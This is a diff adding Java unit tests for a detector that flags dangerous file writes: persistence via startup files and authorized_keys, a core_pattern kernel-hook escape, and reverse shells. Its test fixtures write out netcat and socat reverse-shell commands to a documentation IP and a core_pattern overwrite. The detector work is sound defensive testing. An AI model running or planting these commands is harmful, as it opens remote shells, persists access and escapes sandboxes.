@@ -98,4 +98,42 @@ class WrittenFilesTest {
         assertThat(CommandLineDetector.isShellScript("/x", "#!/usr/bin/fish\n")).isFalse();
         assertThat(CommandLineDetector.isShellScript("/x", "echo hi")).isFalse();
     }
+
+    @Test
+    void aFileToolWriteToAStartupFileIsPersistenceWhateverItHolds() {
+        assertThat(rules("/workspace/.bashrc", "export PATH=$PATH:/workspace/bin\n")).containsExactly("persistence.startup-file");
+        assertThat(rules("/workspace/.config/systemd/user/sync.service", "[Service]\nExecStart=/workspace/sync\n"))
+                .containsExactly("persistence.startup-file");
+        assertThat(rules("/workspace/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz u@h\n")).containsExactly("persistence.startup-file");
+    }
+
+    @Test
+    void aStartupFileNameElsewhereOrInAnotherNameIsNoPersistence() {
+        assertThat(rules("/tmp/.bashrc", "alias ll='ls -l'\n")).isEmpty();
+        assertThat(rules("/workspace/docs/bashrc.txt", "alias ll='ls -l'\n")).isEmpty();
+        assertThat(rules("/workspace/profile.py", "import cProfile\n")).isEmpty();
+    }
+
+    @Test
+    void aWrittenScriptThatWritesAKernelHookIsAnEscapeAttempt() {
+        assertThat(rules("/workspace/run.sh", "#!/bin/sh\necho '|/workspace/x' > /proc/sys/kernel/core_pattern\n"))
+                .containsExactly("tamper.escape.kernel-hook");
+        assertThat(rules("/workspace/run.sh", "#!/bin/sh\ncat /proc/sys/kernel/core_pattern\n")).isEmpty();
+    }
+
+    @Test
+    void aWrittenInterpreterScriptIsJudgedByTheCommandsItHandsToAShell() {
+        assertThat(rules("/workspace/sync.py", "import os\nos.system(\"nc -e /bin/sh 203.0.113.5 4444\")\n"))
+                .contains("reverse-shell.netcat-exec");
+        assertThat(rules("/workspace/tool", "#!/usr/bin/env node\nrequire('child_process').exec('socat tcp:203.0.113.5:1 exec:sh')\n"))
+                .contains("reverse-shell.socat-exec");
+        assertThat(rules("/workspace/run_tests.py", "import subprocess\nsubprocess.run([\"pytest\", \"-q\"], check=True)\n")).isEmpty();
+    }
+
+    @Test
+    void aLongLiteralBeforeTheCommandCostsNoStackAndHidesNothing() {
+        String padding = "\\n".repeat(200_000) + "x".repeat(300_000);
+        String script = "import os\nBLOB = \"" + padding + "\"\nos.system('nc -e /bin/sh 203.0.113.5 4444')\n";
+        assertThat(rules("/workspace/blob.py", script)).contains("reverse-shell.netcat-exec");
+    }
 }
